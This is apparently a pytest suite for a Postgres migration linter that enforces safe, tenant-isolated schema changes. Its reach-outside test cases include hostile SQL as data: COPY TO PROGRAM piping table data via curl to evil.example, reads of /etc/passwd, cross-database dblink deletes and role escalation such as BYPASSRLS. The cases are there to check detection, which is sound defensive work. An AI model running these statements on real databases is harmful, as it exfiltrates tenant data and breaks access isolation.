"""The migration linter: pure, no database."""

from __future__ import annotations

import dataclasses
import json
from pathlib import Path

import pytest

from tenantctl.lint import RULES, Finding, lint_migrations
from tenantctl.migrations import Migration, load_migrations

ROOT = Path(__file__).resolve().parent.parent

# An existing tenant schema: what earlier migrations left behind.
BASE = """\
CREATE TABLE site_mast (
    clnt_id int2 NOT NULL, site_id int2 NOT NULL, site_cd text NOT NULL,
    CONSTRAINT site_mast_pk PRIMARY KEY (clnt_id, site_id),
    CONSTRAINT site_mast_cd_uk UNIQUE (clnt_id, site_cd)
);
CREATE TABLE usr_mast (
    clnt_id int2 NOT NULL, site_id int2 NOT NULL, usr_id int4 NOT NULL,
    usr_nm varchar(40) NOT NULL, usr_note text, amt numeric(10,2), usr_prefs jsonb,
    CONSTRAINT usr_mast_pk PRIMARY KEY (clnt_id, site_id, usr_id),
    CONSTRAINT usr_mast_site_fk FOREIGN KEY (clnt_id, site_id) REFERENCES site_mast (clnt_id, site_id)
);
CREATE TABLE cntry_mast (cntry_cd text PRIMARY KEY, cntry_nm text NOT NULL);
"""


GLOBAL = frozenset({"cntry_mast"})


def lint(tmp_path: Path, *sqls: str, global_tables: frozenset[str] = GLOBAL,
         base: bool = True) -> list[Finding]:
    folder = tmp_path / "migrations"
    folder.mkdir(parents=True)
    files = ([BASE] if base else []) + list(sqls)
    for number, sql in enumerate(files):
        (folder / f"v1.0.{number}_step_{number}.sql").write_text(sql)
    return lint_migrations(load_migrations(folder), global_tables=global_tables)


def only(findings: list[Finding], rule: str, line: int, file: str = "v1.0.1_step_1.sql",
         name: str | None = None) -> Finding:
    assert [(f.rule, f.file, f.line) for f in findings] == [(rule, file, line)], findings
    finding = findings[0]
    assert finding.severity == RULES[rule].severity and finding.hint == RULES[rule].hint
    if name:
        assert name in finding.message
    return finding


# -- one positive and one negative case per rule ----------------------------------------

def test_require_concurrent_index(tmp_path: Path) -> None:
    sql = "-- add an index\n\nCREATE INDEX usr_mast_nm_ix ON usr_mast (clnt_id, site_id, usr_nm);\n"
    only(lint(tmp_path, sql), "require-concurrent-index", 3, name="usr_mast")


def test_require_concurrent_index_add_unique_constraint(tmp_path: Path) -> None:
    sql = "ALTER TABLE usr_mast ADD CONSTRAINT usr_mast_nm_uk UNIQUE (clnt_id, site_id, usr_nm);"
    only(lint(tmp_path, sql), "require-concurrent-index", 1, name="usr_mast_nm_uk")


def test_concurrent_index_in_no_transaction_migration_is_fine(tmp_path: Path) -> None:
    sql = ("-- tenantctl: no-transaction\n"
           "CREATE INDEX CONCURRENTLY usr_mast_nm_ix ON usr_mast (clnt_id, site_id, usr_nm);\n"
           "CREATE UNIQUE INDEX CONCURRENTLY usr_mast_nm_uk ON usr_mast (clnt_id, site_id, usr_nm);\n"
           "DROP INDEX CONCURRENTLY usr_mast_old_ix;\n"
           "REINDEX INDEX CONCURRENTLY usr_mast_pk;\n")
    sql2 = "ALTER TABLE usr_mast ADD CONSTRAINT usr_mast_nm_uk UNIQUE USING INDEX usr_mast_nm_uk;"
    assert lint(tmp_path, sql, sql2) == []


def test_index_on_table_created_in_same_migration_is_fine(tmp_path: Path) -> None:
    sql = ("CREATE TABLE itm (clnt_id int2 NOT NULL, site_id int2 NOT NULL, itm_id int4 NOT NULL,\n"
           "  attrs jsonb, rcrd_stat int2 NOT NULL DEFAULT 1);\n"
           "CREATE INDEX itm_attrs_gin ON itm USING gin (attrs jsonb_path_ops);\n"
           "CREATE UNIQUE INDEX itm_uk ON itm (clnt_id, site_id, itm_id) WHERE rcrd_stat = 1;\n"
           "ALTER TABLE itm ADD CONSTRAINT itm_pk PRIMARY KEY (clnt_id, site_id, itm_id);\n")
    assert lint(tmp_path, sql) == []


def test_concurrent_in_transaction(tmp_path: Path) -> None:
    sql = ("-- tenantctl: no-transaction\n"
           "SELECT 1;\n"
           "CREATE INDEX CONCURRENTLY usr_mast_nm_ix ON usr_mast (clnt_id, site_id, usr_nm);\n")
    migrations = load_migrations(_folder(tmp_path, sql), parse=True)
    up = dataclasses.replace(migrations[1].up, directives={})  # as if the header were missing
    assert up.transactional
    broken = (migrations[0], dataclasses.replace(migrations[1], up=up))
    only(lint_migrations(broken, global_tables=GLOBAL), "concurrent-in-transaction", 3, file="v1.0.1_step.sql",
         name="usr_mast_nm_ix")


def test_detach_partition_concurrently_in_transaction(tmp_path: Path) -> None:
    sql = "ALTER TABLE usr_mast DETACH PARTITION usr_mast_old CONCURRENTLY;"
    only(lint(tmp_path, sql), "concurrent-in-transaction", 1, name="usr_mast")


def test_add_column_not_null_no_default(tmp_path: Path) -> None:
    sql = "SELECT 1;\nALTER TABLE usr_mast ADD COLUMN lcl_cd text NOT NULL;"
    only(lint(tmp_path, sql), "add-column-not-null-no-default", 2, name="usr_mast.lcl_cd")


def test_add_column_nullable_or_with_default_is_fine(tmp_path: Path) -> None:
    sql = ("ALTER TABLE usr_mast ADD COLUMN lcl_cd text;\n"
           "ALTER TABLE usr_mast ADD COLUMN tz_nm text NOT NULL DEFAULT 'UTC';\n"
           "ALTER TABLE usr_mast ADD COLUMN seq_no int8 NOT NULL GENERATED ALWAYS AS IDENTITY;\n"
           "CREATE TABLE new_t (clnt_id int2 NOT NULL);\n"
           "ALTER TABLE new_t ADD COLUMN x int NOT NULL;\n")
    assert lint(tmp_path, sql) == []


def test_ban_drop_column(tmp_path: Path) -> None:
    only(lint(tmp_path, "ALTER TABLE usr_mast DROP COLUMN usr_note;"), "ban-drop-column", 1,
         name="usr_mast.usr_note")


def test_ban_drop_table(tmp_path: Path) -> None:
    only(lint(tmp_path, "DROP TABLE IF EXISTS usr_mast;"), "ban-drop-table", 1, name="usr_mast")


def test_ban_truncate(tmp_path: Path) -> None:
    only(lint(tmp_path, "TRUNCATE usr_mast;"), "ban-truncate", 1, name="usr_mast")


def test_drop_and_truncate_of_table_from_same_migration_are_fine(tmp_path: Path) -> None:
    sql = ("CREATE TABLE stg (clnt_id int2 NOT NULL, a int, b int);\n"
           "TRUNCATE stg;\nALTER TABLE stg DROP COLUMN b;\nALTER TABLE stg RENAME COLUMN a TO c;\n"
           "ALTER TABLE stg ALTER COLUMN c TYPE int8;\nDROP TABLE stg;\n"
           "CREATE TEMP TABLE tmp_ld (x int);\nDROP TABLE tmp_ld;\n")
    assert lint(tmp_path, sql) == []


def test_ban_alter_column_type(tmp_path: Path) -> None:
    sql = "ALTER TABLE usr_mast ALTER COLUMN usr_id TYPE int8;"
    only(lint(tmp_path, sql), "ban-alter-column-type", 1, name="usr_mast.usr_id")


def test_alter_column_type_widening_is_fine(tmp_path: Path) -> None:
    sql = ("ALTER TABLE usr_mast ALTER COLUMN usr_nm TYPE varchar(80);\n"
           "ALTER TABLE usr_mast ALTER COLUMN usr_nm TYPE text;\n"
           "ALTER TABLE usr_mast ALTER COLUMN amt TYPE numeric(14,2);\n")
    assert lint(tmp_path, sql) == []
    narrowing = "ALTER TABLE usr_mast ALTER COLUMN amt TYPE numeric(14,4);"
    only(lint(tmp_path / "n", narrowing), "ban-alter-column-type", 1)


def test_ban_rename_column_and_table(tmp_path: Path) -> None:
    findings = lint(tmp_path, "ALTER TABLE usr_mast RENAME COLUMN usr_nm TO usr_name;\n"
                              "ALTER TABLE usr_mast RENAME TO usr_master;\n")
    assert [(f.rule, f.line) for f in findings] == [("ban-rename", 1), ("ban-rename", 2)]
    assert "usr_mast.usr_nm" in findings[0].message and "usr_master" in findings[1].message


def test_constraint_not_valid(tmp_path: Path) -> None:
    sql = ("ALTER TABLE usr_mast ADD CONSTRAINT usr_mast_amt_ck CHECK (amt >= 0);\n"
           "ALTER TABLE usr_mast ADD CONSTRAINT usr_mast_site_fk2 FOREIGN KEY (clnt_id, site_id)\n"
           "    REFERENCES site_mast (clnt_id, site_id);\n")
    findings = lint(tmp_path, sql)
    assert [(f.rule, f.line) for f in findings] == [("constraint-not-valid", 1), ("constraint-not-valid", 2)]
    assert "usr_mast_amt_ck" in findings[0].message


def test_constraint_not_valid_then_validate_is_fine(tmp_path: Path) -> None:
    sql = ("ALTER TABLE usr_mast ADD CONSTRAINT usr_mast_amt_ck CHECK (amt >= 0) NOT VALID;\n"
           "ALTER TABLE usr_mast ADD CONSTRAINT usr_mast_site_fk2 FOREIGN KEY (clnt_id, site_id)\n"
           "    REFERENCES site_mast (clnt_id, site_id) NOT VALID;\n")
    later = "ALTER TABLE usr_mast VALIDATE CONSTRAINT usr_mast_amt_ck;"
    assert lint(tmp_path, sql, later) == []


def test_tenant_table_needs_clnt_id(tmp_path: Path) -> None:
    sql = "-- lookup\nCREATE TABLE ccy_mast (ccy_cd text NOT NULL, ccy_nm text);"
    only(lint(tmp_path, sql), "tenant-table-needs-clnt-id", 2, name="ccy_mast")


def test_global_tables_are_exempt(tmp_path: Path) -> None:
    sql = ("CREATE TABLE ccy_mast (ccy_cd text PRIMARY KEY, ccy_nm text);\n"
           "ALTER TABLE ccy_mast DISABLE ROW LEVEL SECURITY;\n"
           "CREATE TABLE usr_ccy (clnt_id int2 NOT NULL, site_id int2 NOT NULL, usr_id int4 NOT NULL,\n"
           "  ccy_cd text NOT NULL REFERENCES ccy_mast (ccy_cd),\n"
           "  CONSTRAINT usr_ccy_cntry_fk FOREIGN KEY (ccy_cd) REFERENCES public.cntry_mast (cntry_cd),\n"
           "  PRIMARY KEY (clnt_id, site_id, usr_id));\n")
    assert lint(tmp_path, sql, global_tables=frozenset({"ccy_mast", "cntry_mast"})) == []
    findings = lint(tmp_path / "again", sql, global_tables=frozenset({"cntry_mast"}))
    assert [f.rule for f in findings] == ["tenant-table-needs-clnt-id"]  # only once, no key noise


def test_key_leads_with_clnt_id(tmp_path: Path) -> None:
    sql = ("CREATE TABLE itm (\n"
           "  itm_id int4 PRIMARY KEY,\n"
           "  clnt_id int2 NOT NULL);\n"
           "CREATE UNIQUE INDEX itm_uk ON itm (itm_id, clnt_id);\n"
           "ALTER TABLE itm ADD CONSTRAINT itm_usr_fk FOREIGN KEY (usr_id, clnt_id)\n"
           "  REFERENCES usr_mast (usr_id, clnt_id);\n")
    findings = lint(tmp_path, sql)
    assert [(f.rule, f.line) for f in findings] == [
        ("key-leads-with-clnt-id", 1), ("key-leads-with-clnt-id", 4), ("key-leads-with-clnt-id", 5)]
    assert "PRIMARY KEY (itm_id) of itm" in findings[0].message
    assert all(f.severity == "error" for f in findings)


def test_key_site_id_second(tmp_path: Path) -> None:
    sql = ("CREATE TABLE itm (clnt_id int2 NOT NULL, site_id int2 NOT NULL, itm_id int4 NOT NULL,\n"
           "  CONSTRAINT itm_pk PRIMARY KEY (clnt_id, itm_id, site_id));\n")
    finding = only(lint(tmp_path, sql), "key-site-id-second", 1, name="itm")
    assert finding.severity == "warning"


def test_keys_of_xos_shape_are_fine(tmp_path: Path) -> None:
    sql = ("CREATE TABLE ordr_hdr (clnt_id int2 NOT NULL, site_id int2 NOT NULL, ordr_id int8 NOT NULL,\n"
           "  usr_id int4 NOT NULL, ordr_no text NOT NULL,\n"
           "  CONSTRAINT ordr_hdr_pk PRIMARY KEY (clnt_id, site_id, ordr_id),\n"
           "  CONSTRAINT ordr_hdr_no_uk UNIQUE (clnt_id, site_id, ordr_no),\n"
           "  CONSTRAINT ordr_hdr_usr_fk FOREIGN KEY (clnt_id, site_id, usr_id)\n"
           "      REFERENCES usr_mast (clnt_id, site_id, usr_id));\n"
           "CREATE TABLE clnt_cfg (clnt_id int2 PRIMARY KEY, cfg jsonb);\n"
           "CREATE UNIQUE INDEX ordr_hdr_expr_uk ON ordr_hdr (clnt_id, site_id, lower(ordr_no));\n"
           "CREATE UNIQUE INDEX ordr_hdr_expr2_uk ON ordr_hdr (lower(ordr_no));\n")
    assert lint(tmp_path, sql) == []


def test_rls_disabled(tmp_path: Path) -> None:
    sql = ("ALTER TABLE usr_mast ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY;\n"
           "ALTER TABLE usr_mast NO FORCE ROW LEVEL SECURITY;\n")
    only(lint(tmp_path, sql), "rls-disabled", 2, name="usr_mast")
    only(lint(tmp_path / "b", "ALTER TABLE usr_mast DISABLE ROW LEVEL SECURITY;"), "rls-disabled", 1)


# -- directives, state, output ---------------------------------------------------------

def test_allow_directive_silences_a_rule_for_its_file(tmp_path: Path) -> None:
    sql = ("-- tenantctl: allow ban-drop-column\n"
           "ALTER TABLE usr_mast DROP COLUMN usr_note;\nTRUNCATE usr_mast;\n")
    only(lint(tmp_path, sql), "ban-truncate", 3)


def test_existing_means_created_by_an_earlier_migration(tmp_path: Path) -> None:
    first = "CREATE TABLE itm (clnt_id int2 NOT NULL, site_id int2 NOT NULL, itm_id int4);"
    second = "CREATE INDEX itm_ix ON itm (clnt_id, site_id, itm_id);"
    only(lint(tmp_path, first, second, base=False), "require-concurrent-index", 1, file="v1.0.1_step_1.sql")


def test_finding_to_json(tmp_path: Path) -> None:
    finding = lint(tmp_path, "TRUNCATE usr_mast;")[0]
    data = finding.to_json()
    assert json.loads(json.dumps(data)) == {
        "rule": "ban-truncate", "severity": "error", "file": "v1.0.1_step_1.sql", "line": 1,
        "message": finding.message, "hint": RULES["ban-truncate"].hint}


def test_rules_are_complete() -> None:
    for rule_id, rule in RULES.items():
        assert rule.id == rule_id and rule.severity in ("error", "warning") and rule.summary and rule.hint
    assert RULES["key-site-id-second"].severity == "warning"


# -- no false alarms -----------------------------------------------------------------

XOS = """\
-- tenantctl: lock-timeout=2s
CREATE TABLE grp_mast (
    clnt_id int2 NOT NULL, site_id int2 NOT NULL,
    grp_id int4 GENERATED BY DEFAULT AS IDENTITY,
    grp_cd text NOT NULL, grp_attrs jsonb NOT NULL DEFAULT '{}', rcrd_stat int2 NOT NULL DEFAULT 1,
    CONSTRAINT grp_mast_pk PRIMARY KEY (clnt_id, site_id, grp_id),
    CONSTRAINT grp_mast_cd_uk UNIQUE (clnt_id, site_id, grp_cd),
    CONSTRAINT grp_mast_site_fk FOREIGN KEY (clnt_id, site_id) REFERENCES site_mast (clnt_id, site_id),
    CONSTRAINT grp_mast_rcrd_stat_ck CHECK (rcrd_stat IN (0, 1))
);
CREATE TABLE grp_dtl (
    clnt_id int2 NOT NULL, site_id int2 NOT NULL, grp_id int4 NOT NULL, usr_id int4 NOT NULL,
    cntry_cd text REFERENCES cntry_mast (cntry_cd),
    PRIMARY KEY (clnt_id, site_id, grp_id, usr_id),
    FOREIGN KEY (clnt_id, site_id, grp_id) REFERENCES grp_mast ON DELETE CASCADE,
    FOREIGN KEY (clnt_id, site_id, usr_id) REFERENCES usr_mast (clnt_id, site_id, usr_id)
);
CREATE TABLE grp_mast_adt (
    clnt_id int2 NOT NULL, site_id int2 NOT NULL, adt_id int8 GENERATED ALWAYS AS IDENTITY,
    grp_id int4 NOT NULL, adt_op char(1) NOT NULL, old_row jsonb, new_row jsonb,
    CONSTRAINT grp_mast_adt_pk PRIMARY KEY (clnt_id, site_id, adt_id)
);
CREATE INDEX grp_mast_attrs_gin ON grp_mast USING gin (grp_attrs jsonb_path_ops);
CREATE INDEX grp_mast_actv_ix ON grp_mast (clnt_id, site_id, grp_cd) WHERE rcrd_stat = 1;
CREATE FUNCTION grp_mast_adt_fn() RETURNS trigger LANGUAGE plpgsql AS $fn$
BEGIN
    -- ALTER TABLE grp_mast DROP COLUMN x; TRUNCATE grp_mast;  (text, not statements)
    INSERT INTO grp_mast_adt (clnt_id, site_id, grp_id, adt_op, old_row, new_row)
    VALUES (coalesce(NEW.clnt_id, OLD.clnt_id), coalesce(NEW.site_id, OLD.site_id),
            coalesce(NEW.grp_id, OLD.grp_id), left(TG_OP, 1), to_jsonb(OLD), to_jsonb(NEW));
    RETURN NULL;
END;
$fn$;
CREATE TRIGGER grp_mast_adt_trg AFTER INSERT OR UPDATE OR DELETE ON grp_mast
    FOR EACH ROW EXECUTE FUNCTION grp_mast_adt_fn();
ALTER TABLE grp_mast ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY;
CREATE POLICY grp_mast_tenant ON grp_mast
    USING (clnt_id = (SELECT nullif(current_setting('app.current_tenant', true), '')::int2));
COMMENT ON TABLE grp_mast IS 'Groups';
COMMENT ON COLUMN grp_mast.grp_cd IS 'Code';
GRANT SELECT, INSERT, UPDATE, DELETE ON grp_mast, grp_dtl TO app_rw;
INSERT INTO cntry_mast (cntry_cd, cntry_nm) VALUES ('US', 'United States') ON CONFLICT DO NOTHING;
UPDATE usr_mast SET usr_note = NULL WHERE usr_note = '';
CREATE VIEW grp_v WITH (security_invoker = true) AS SELECT clnt_id, site_id, grp_cd FROM grp_mast;
CREATE SEQUENCE grp_seq;
CREATE MATERIALIZED VIEW grp_cnt_mv AS SELECT clnt_id, site_id, count(*) AS n FROM grp_mast GROUP BY 1, 2;
CREATE UNIQUE INDEX grp_cnt_mv_uk ON grp_cnt_mv (site_id, clnt_id);
DO $$ BEGIN PERFORM 1; END $$;
ALTER TABLE usr_mast OWNER TO app_owner;
CREATE FUNCTION grp_cnt(p_clnt int2) RETURNS bigint LANGUAGE sql STABLE
    AS 'SELECT count(*) FROM grp_mast WHERE clnt_id = p_clnt';
ALTER TABLE usr_mast ADD COLUMN lcl_cd text, ADD COLUMN tz_nm text NOT NULL DEFAULT 'UTC';
ALTER TABLE usr_mast ADD CONSTRAINT usr_mast_lcl_ck CHECK (lcl_cd <> '') NOT VALID;
ALTER TABLE usr_mast ALTER COLUMN usr_note SET DEFAULT '';
"""

XOS_NO_TRANSACTION = """\
-- tenantctl: no-transaction
-- tenantctl: statement-timeout=10min
CREATE INDEX CONCURRENTLY IF NOT EXISTS usr_mast_nm_ix ON usr_mast (clnt_id, site_id, usr_nm);
CREATE UNIQUE INDEX CONCURRENTLY grp_dtl_usr_uk ON grp_dtl (clnt_id, site_id, usr_id, grp_id);
"""

XOS_LATER = """\
ALTER TABLE usr_mast VALIDATE CONSTRAINT usr_mast_lcl_ck;
ALTER TABLE grp_dtl ADD CONSTRAINT grp_dtl_usr_uk UNIQUE USING INDEX grp_dtl_usr_uk;
"""


def test_typical_xos_migrations_lint_clean(tmp_path: Path) -> None:
    assert lint(tmp_path, XOS, XOS_NO_TRANSACTION, XOS_LATER) == []


def test_shipped_migrations_lint_clean() -> None:
    migrations = load_migrations(ROOT / "migrations")
    assert migrations, "the shipped migrations folder is empty"
    assert lint_migrations(migrations) == []


def _folder(tmp_path: Path, sql: str) -> Path:
    folder = tmp_path / "migrations"
    folder.mkdir(parents=True)
    (folder / "v1.0.0_base.sql").write_text(BASE)
    (folder / "v1.0.1_step.sql").write_text(sql)
    return folder


@pytest.mark.parametrize("rule", sorted(RULES))
def test_every_rule_id_is_kebab_case(rule: str) -> None:
    assert rule == rule.lower() and " " not in rule and "_" not in rule


def test_migrations_are_linted_in_version_order(tmp_path: Path) -> None:
    migrations: tuple[Migration, ...] = load_migrations(_folder(tmp_path, "TRUNCATE usr_mast;"))
    assert lint_migrations(tuple(reversed(migrations)), global_tables=GLOBAL)[0].rule == "ban-truncate"


def test_create_table_as_needs_clnt_id(tmp_path: Path) -> None:
    sql = ("CREATE TABLE usr_copy AS SELECT u.clnt_id, u.site_id, usr_id FROM usr_mast u;\n"
           "CREATE TABLE usr_star AS SELECT * FROM usr_mast;\n"
           "CREATE TEMP TABLE tmp_ids AS SELECT usr_id FROM usr_mast;\n"
           "CREATE TABLE usr_ids (id) AS SELECT usr_id FROM usr_mast;\n")
    only(lint(tmp_path, sql), "tenant-table-needs-clnt-id", 4, name="usr_ids")


def test_partitions_and_like_inherit_columns(tmp_path: Path) -> None:
    sql = ("CREATE TABLE evt (clnt_id int2 NOT NULL, site_id int2 NOT NULL, evt_id int8 NOT NULL,\n"
           "  PRIMARY KEY (clnt_id, site_id, evt_id)) PARTITION BY LIST (clnt_id);\n"
           "CREATE TABLE usr_mast_arch (LIKE usr_mast INCLUDING ALL);\n")
    later = ("CREATE TABLE evt_1 PARTITION OF evt FOR VALUES IN (1);\n"
             "CREATE INDEX evt_site_ix ON ONLY evt (clnt_id, site_id);\n")
    assert lint(tmp_path, sql, later) == []


# -- empty migrations -------------------------------------------------------------------

@pytest.mark.parametrize("sql", ["", "-- later\n", "/* nothing */\n;\n"])
def test_empty_migration_is_a_warning(tmp_path: Path, sql: str) -> None:
    finding = only(lint(tmp_path, sql), "empty-migration", 1)
    assert finding.severity == "warning" and finding.file == "v1.0.1_step_1.sql"


def test_empty_migration_can_be_accepted(tmp_path: Path) -> None:
    assert lint(tmp_path, "-- tenantctl: allow empty-migration\n-- kept as a placeholder\n") == []


# -- statements that reach outside the tenant's own database -----------------------------

def lint_with_down(tmp_path: Path, up: str, down: str, *, shared_mode: bool = False) -> list[Finding]:
    folder = _folder(tmp_path, up)
    (folder / "v1.0.1_step.down.sql").write_text(down)
    return lint_migrations(load_migrations(folder), global_tables=GLOBAL, shared_mode=shared_mode)


@pytest.mark.parametrize("rule, sql", [
    ("ban-drop-database", "-- tenantctl: no-transaction\nDROP DATABASE cvs_client_2;"),
    ("ban-drop-database", "-- tenantctl: no-transaction\nDROP DATABASE IF EXISTS other WITH (FORCE);"),
    ("ban-drop-database", "-- tenantctl: no-transaction\nCREATE DATABASE scratch;"),
    ("ban-drop-database", "ALTER DATABASE cvs_client_1 SET search_path = app, public;"),
    ("ban-drop-database", "ALTER DATABASE cvs_client_1 CONNECTION LIMIT 5;"),
    ("ban-drop-database", "ALTER DATABASE cvs_client_1 OWNER TO someone;"),
    ("ban-drop-database", "ALTER DATABASE cvs_client_1 RENAME TO x;"),
    ("ban-drop-database", "ALTER DATABASE cvs_client_1 REFRESH COLLATION VERSION;"),
    ("ban-drop-database", "GRANT CONNECT ON DATABASE cvs_client_2 TO cvs_app;"),
    ("ban-drop-database", "DO $$ BEGIN EXECUTE format('ALTER DATABASE %I SET x.y = 1', current_database()); END $$;"),
    ("ban-cross-database-access", "CREATE EXTENSION IF NOT EXISTS dblink;"),
    ("ban-cross-database-access", "CREATE EXTENSION postgres_fdw;"),
    ("ban-cross-database-access", "CREATE SERVER other FOREIGN DATA WRAPPER postgres_fdw OPTIONS (dbname 'x');"),
    ("ban-cross-database-access", "CREATE USER MAPPING FOR CURRENT_USER SERVER other;"),
    ("ban-cross-database-access", "ALTER USER MAPPING FOR CURRENT_USER SERVER other OPTIONS (SET password 'x');"),
    ("ban-cross-database-access", "CREATE FOREIGN TABLE ft (clnt_id int2) SERVER other;"),
    ("ban-cross-database-access", "IMPORT FOREIGN SCHEMA public FROM SERVER other INTO stage;"),
    ("ban-cross-database-access", "CREATE SUBSCRIPTION s CONNECTION 'dbname=x' PUBLICATION p WITH (connect = false);"),
    ("ban-cross-database-access", "SELECT dblink_exec('dbname=cvs_client_2', 'DELETE FROM usr_mast');"),
    ("ban-cross-database-access", "INSERT INTO usr_mast SELECT * FROM dblink('dbname=x', 'SELECT 1') AS t(a int);"),
    ("ban-cross-database-access", "SELECT public.dblink_connect('c', 'dbname=x');"),
    ("ban-cross-database-access", "DO $$\nBEGIN\n  PERFORM DBLINK_EXEC('dbname=x', 'select 1');\nEND $$;"),
    ("ban-cross-database-access", ("CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $f$\n"
                                  "BEGIN PERFORM dblink_exec('dbname=x', 'select 1'); END $f$;")),
    ("ban-copy-program", "COPY usr_mast TO PROGRAM 'curl -d @- https://evil.example';"),
    ("ban-copy-program", "COPY usr_mast FROM PROGRAM 'cat /etc/passwd';"),
    ("ban-copy-program", "COPY usr_mast FROM '/var/lib/postgresql/data.csv' WITH (FORMAT csv);"),
    ("ban-copy-program", "COPY (SELECT * FROM usr_mast) TO '/tmp/usr.csv';"),
    ("ban-copy-program", "SELECT lo_import('/etc/passwd');"),
    ("ban-copy-program", "SELECT pg_read_file('postgresql.auto.conf');"),
    ("ban-copy-program", "DO $$ BEGIN EXECUTE 'COPY usr_mast TO PROGRAM ''gzip > /tmp/x''' ; END $$;"),
    ("ban-alter-system", "-- tenantctl: no-transaction\nALTER SYSTEM SET max_connections = 5;"),
    ("ban-alter-system", "-- tenantctl: no-transaction\nALTER SYSTEM RESET ALL;"),
    ("ban-role-ddl", "CREATE ROLE cvs_reader;"),
    ("ban-role-ddl", "CREATE USER bob PASSWORD 'x';"),
    ("ban-role-ddl", "CREATE GROUP readers;"),
    ("ban-role-ddl", "ALTER ROLE cvs_app BYPASSRLS;"),
    ("ban-role-ddl", "ALTER USER cvs_app SET search_path = x;"),
    ("ban-role-ddl", "ALTER ROLE cvs_app RENAME TO cvs_app2;"),
    ("ban-role-ddl", "DROP ROLE IF EXISTS cvs_reader;"),
    ("ban-role-ddl", "DROP USER bob;"),
    ("ban-role-ddl", "GRANT cvs_owner TO cvs_app;"),
    ("ban-role-ddl", "REVOKE cvs_owner FROM cvs_app;"),
    ("ban-role-ddl", "SET ROLE cvs_owner;"),
    ("ban-role-ddl", "SET LOCAL ROLE cvs_owner;"),
    ("ban-role-ddl", "SET SESSION AUTHORIZATION cvs_owner;"),
    ("ban-role-ddl", "REASSIGN OWNED BY cvs_app TO cvs_owner;"),
    ("ban-role-ddl", "DROP OWNED BY cvs_app;"),
    ("ban-role-ddl", ("DO $$\nBEGIN\n  IF NOT EXISTS (SELECT FROM pg_roles WHERE rolname = 'r') THEN\n"
                     "    CREATE ROLE r NOLOGIN;\n  END IF;\nEND $$;")),
])
def test_reach_outside_rules(tmp_path: Path, rule: str, sql: str) -> None:
    findings = lint(tmp_path, sql)
    assert [f.rule for f in findings] == [rule], findings
    assert findings[0].severity == "error" and findings[0].hint == RULES[rule].hint
    assert findings[0].file == "v1.0.1_step_1.sql"


@pytest.mark.parametrize("sql", [
    "CREATE EXTENSION IF NOT EXISTS pgcrypto;",
    "CREATE EXTENSION \"uuid-ossp\";",
    "COPY usr_mast FROM STDIN;",
    "COPY (SELECT 1) TO STDOUT;",
    "ALTER TABLE usr_mast OWNER TO app_owner;",
    "ALTER SCHEMA public OWNER TO app_owner;",
    "GRANT SELECT ON usr_mast TO cvs_app;",
    "REVOKE ALL ON usr_mast FROM PUBLIC;",
    "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO cvs_app;",
    "RESET ROLE;",
    "SET search_path = public;",
    "SELECT set_config('app.current_tenant', '1', true);",
    ("CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $f$\n"
    "BEGIN\n  -- we used to CREATE ROLE here and call dblink_exec(); no more\n  PERFORM 1;\nEND $f$;"),
    "COMMENT ON COLUMN usr_mast.usr_note IS 'copied from the old system via dblink';",
])
def test_reach_outside_rules_no_false_alarms(tmp_path: Path, sql: str) -> None:
    assert lint(tmp_path, sql) == []


def test_reach_outside_line_points_inside_a_do_body(tmp_path: Path) -> None:
    sql = "SELECT 1;\nDO $$\nBEGIN\n  PERFORM 1;\n  PERFORM dblink_exec('x', 'y');\nEND $$;\n"
    only(lint(tmp_path, sql), "ban-cross-database-access", 5)


def test_reach_outside_rules_check_down_scripts(tmp_path: Path) -> None:
    down = "-- undo\nDROP TABLE IF EXISTS x;\nSELECT dblink_exec('dbname=cvs_client_2', 'DROP TABLE t');\nCREATE ROLE r;\n"
    findings = lint_with_down(tmp_path, "CREATE TABLE x (clnt_id int2 NOT NULL);", down)
    assert [(f.rule, f.file, f.line) for f in findings] == [
        ("ban-cross-database-access", "v1.0.1_step.down.sql", 3),
        ("ban-role-ddl", "v1.0.1_step.down.sql", 4),
    ]


def test_down_script_allow_directive_is_its_own(tmp_path: Path) -> None:
    up = "-- tenantctl: allow ban-role-ddl\nCREATE ROLE r;"
    findings = lint_with_down(tmp_path, up, "DROP ROLE r;")
    assert [(f.rule, f.file) for f in findings] == [("ban-role-ddl", "v1.0.1_step.down.sql")]
    assert lint_with_down(tmp_path / "b", up, "-- tenantctl: allow ban-role-ddl\nDROP ROLE r;") == []


def test_down_scripts_are_not_held_to_the_up_rules(tmp_path: Path) -> None:
    down = "DROP TABLE usr_mast;\nALTER TABLE site_mast DROP COLUMN site_cd;\nTRUNCATE site_mast;\n"
    assert lint_with_down(tmp_path, "SELECT 1;", down) == []


# -- shared mode ------------------------------------------------------------------------

def lint_shared(tmp_path: Path, sql: str, *, shared_mode: bool = True) -> list[Finding]:
    return lint_migrations(load_migrations(_folder(tmp_path, sql)), global_tables=GLOBAL,
                           shared_mode=shared_mode)


@pytest.mark.parametrize("rule, sql", [
    ("view-needs-security-invoker", "CREATE VIEW usr_v AS SELECT clnt_id, usr_nm FROM usr_mast;"),
    ("view-needs-security-invoker", "CREATE OR REPLACE VIEW usr_v AS SELECT clnt_id, usr_nm FROM usr_mast;"),
    ("view-needs-security-invoker", "CREATE VIEW usr_v WITH (security_barrier) AS SELECT clnt_id FROM usr_mast;"),
    ("view-needs-security-invoker", "CREATE VIEW usr_v WITH (security_invoker = false) AS SELECT clnt_id FROM usr_mast;"),
    ("view-needs-security-invoker", "CREATE VIEW usr_v WITH (security_invoker = off) AS SELECT clnt_id FROM usr_mast;"),
    ("view-needs-security-invoker", "CREATE RECURSIVE VIEW nums (n) AS SELECT 1 UNION ALL SELECT n + 1 FROM nums WHERE n < 3;"),
    ("view-needs-security-invoker", "ALTER VIEW usr_v SET (security_invoker = false);"),
    ("view-needs-security-invoker", "ALTER VIEW usr_v RESET (security_invoker);"),
    ("view-needs-security-invoker", "ALTER VIEW usr_v SET (security_invoker = 0, check_option = local);"),
    ("shared-materialized-view", "CREATE MATERIALIZED VIEW usr_cnt AS SELECT clnt_id, count(*) FROM usr_mast GROUP BY 1;"),
    ("shared-security-definer", ("CREATE FUNCTION usr_cnt() RETURNS bigint LANGUAGE sql SECURITY DEFINER\n"
                                "AS 'SELECT count(*) FROM usr_mast';")),
    ("shared-security-definer", ("CREATE OR REPLACE PROCEDURE p() LANGUAGE sql SECURITY DEFINER\n"
